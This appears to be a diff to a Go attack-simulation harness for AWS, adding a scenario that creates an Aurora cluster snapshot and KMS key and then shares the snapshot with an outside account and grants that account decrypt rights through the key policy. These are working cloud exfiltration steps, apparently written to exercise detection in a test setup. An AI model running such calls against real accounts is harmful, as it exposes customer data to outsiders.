@@ -57,6 +57,10 @@ const (
 	techTopic       = "billing-alerts"
 	techQueue       = "billing-jobs"
 	techReplication = "s3-replication"
+	techCluster2    = "orders-aurora"
+	// TechClusterSnapshot is the weekly snapshot of the Aurora cluster the
+	// attacker shares.
+	TechClusterSnapshot = "orders-aurora-weekly"
 	// TechDrop is the attacker's bucket, in its own account, that the
 	// customer data is replicated to.
 	TechDrop = "exfil-drop-7731"
@@ -96,6 +100,7 @@ type techniques struct {
 	analyst                                                                 world.Credentials
 	instance, image, oldImage, volume, snapshot, group, kmsKey, partnerRole string
 	topic, queue, replicationRole, ssoInstance, permissionSet               string
+	backupKey                                                               string
 }
 
 func (s *techniques) setup(ctx context.Context, r *Run) error {
@@ -237,6 +242,18 @@ func (s *techniques) setupMore(ctx context.Context, r *Run, b *builder) error {
 		return fmt.Errorf("version the data bucket: %w", err)
 	}
 	if s.replicationRole, err = b.role(ctx, techReplication, document(stmt{Effect: "Allow", Principal: map[string]any{"Service": "s3.amazonaws.com"}, Action: "sts:AssumeRole"}), time.Hour, nil); err != nil {
+		return err
+	}
+	rc := rds.NewFromConfig(b.cfg("us-east-1"))
+	if _, err := rc.CreateDBCluster(ctx, &rds.CreateDBClusterInput{DBClusterIdentifier: aws.String(techCluster2), Engine: aws.String("aurora-postgresql"),
+		MasterUsername: aws.String("app"), MasterUserPassword: aws.String("not-the-real-one-2"), StorageEncrypted: aws.Bool(true)}); err != nil {
+		return fmt.Errorf("create db cluster: %w", err)
+	}
+	if _, err := rc.CreateDBClusterSnapshot(ctx, &rds.CreateDBClusterSnapshotInput{DBClusterIdentifier: aws.String(techCluster2),
+		DBClusterSnapshotIdentifier: aws.String(TechClusterSnapshot)}); err != nil {
+		return fmt.Errorf("create db cluster snapshot: %w", err)
+	}
+	if s.backupKey, err = b.kmsKey(ctx, "us-east-1", "backups"); err != nil {
 		return err
 	}
 	sa := ssoadmin.NewFromConfig(b.cfg("us-east-1"))
@@ -386,6 +403,25 @@ func (s *techniques) attack(ctx context.Context, r *Run) error {
 	call("share the database snapshot", func(ctx context.Context) error {
 		_, err := rds.NewFromConfig(cfg()).ModifyDBSnapshotAttribute(ctx, &rds.ModifyDBSnapshotAttributeInput{
 			DBSnapshotIdentifier: aws.String(techDBSnapshot), AttributeName: aws.String("restore"), ValuesToAdd: []string{TechOutsider}})
+		return err
+	})
+	call("share the cluster snapshot", func(ctx context.Context) error {
+		_, err := rds.NewFromConfig(cfg()).ModifyDBClusterSnapshotAttribute(ctx, &rds.ModifyDBClusterSnapshotAttributeInput{
+			DBClusterSnapshotIdentifier: aws.String(TechClusterSnapshot), AttributeName: aws.String("restore"), ValuesToAdd: []string{TechOutsider}})
+		return err
+	})
+	call("the backup key's policy", func(ctx context.Context) error {
+		client := kms.NewFromConfig(cfg())
+		out, err := client.GetKeyPolicy(ctx, &kms.GetKeyPolicyInput{KeyId: aws.String(s.backupKey), PolicyName: aws.String("default")})
+		if err != nil {
+			return err
+		}
+		policy, err := withStatement(deref(out.Policy), stmt{Sid: "backup-partner", Effect: "Allow", Principal: map[string]any{"AWS": outside},
+			Action: []string{"kms:Decrypt", "kms:DescribeKey"}, Resource: "*"})
+		if err != nil {
+			return err
+		}
+		_, err = client.PutKeyPolicy(ctx, &kms.PutKeyPolicyInput{KeyId: aws.String(s.backupKey), PolicyName: aws.String("default"), Policy: aws.String(policy)})
 		return err
 	})
 	call("a bucket policy for its account", func(ctx context.Context) error {
